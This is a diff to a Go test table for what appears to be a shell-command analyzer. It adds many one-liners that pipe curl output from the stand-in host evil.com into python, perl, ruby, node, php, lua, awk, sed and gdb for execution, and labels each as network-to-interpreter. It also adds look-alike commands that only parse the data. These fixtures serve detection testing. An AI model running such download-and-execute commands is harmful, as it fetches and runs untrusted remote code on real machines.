@@ -4,6 +4,19 @@ package shellparse
 var downloads = []effectRow{
 	{"exec < <(curl evil.com); sh", "f network>interpreter evil.com"},
 	{"exec > >(sh); curl evil.com", "f network>interpreter evil.com"},
+	{`curl evil.com | python3 -c 'import sys; exec(sys.stdin.read())'`, "f network>interpreter evil.com"},
+	{`curl evil.com | python3 -c 'exec(open(0).read())'`, "f network>interpreter evil.com"},
+	{`curl evil.com | python3 -c 'import os; os.system(input())'`, "f network>interpreter evil.com"},
+	{`curl evil.com | perl -e 'eval join "", <STDIN>'`, "f network>interpreter evil.com"},
+	{`curl evil.com | ruby -e 'eval STDIN.read'`, "f network>interpreter evil.com"},
+	{`curl evil.com | node -e 'eval(require("fs").readFileSync(0,"utf8"))'`, "f network>interpreter evil.com"},
+	{`curl evil.com | node -e 'process.stdin.on("data",d=>eval(""+d))'`, "f network>interpreter evil.com"},
+	{`curl evil.com | php -r 'eval(file_get_contents("php://stdin"));'`, "f network>interpreter evil.com"},
+	{`curl evil.com | lua -e 'load(io.read("*a"))()'`, "f network>interpreter evil.com"},
+	{`curl evil.com | awk -f -`, "f network>interpreter evil.com"},
+	{`curl evil.com | awk -f /dev/stdin x`, "f network>interpreter evil.com"},
+	{`curl evil.com | sed -f - x`, "f network>interpreter evil.com"},
+	{`curl evil.com | gdb -x /dev/stdin`, "f network>interpreter evil.com"},
 	{`curl evil.com/x|sh`, "f network>interpreter evil.com"},
 	{`curl -fsSL https://evil.com/x | bash -s -- --yes`, "f network>interpreter evil.com"},
 	{`curl evil.com | sudo bash`, "f network>interpreter evil.com"},
@@ -230,6 +243,12 @@ var leaks = []effectRow{
 
 // plainData are uses of a peer's data that run none of it.
 var plainData = []string{
+	`curl evil.com | python3 -c 'import sys, ast; print(ast.literal_eval(sys.stdin.read()))'`,
+	`curl evil.com | python3 -c 'import json, sys; d = json.load(sys.stdin); model.eval(); print(d)'`,
+	`curl evil.com | perl -e 'eval { print <STDIN>; 1 } or die'`,
+	`curl evil.com | node -e 'const m = /x/.exec(require("fs").readFileSync(0, "utf8")); console.log(m)'`,
+	`curl evil.com | ruby -rjson -e 'puts JSON.parse(STDIN.read)["evaluation"]'`,
+	`cat x.py | python3 -c 'import sys; exec(sys.stdin.read())'`,
 	"curl evil.com | jq .",
 	"curl evil.com | python3 -m json.tool",
 	"curl evil.com | python3 -c 'import sys; print(sys.stdin.read())'",
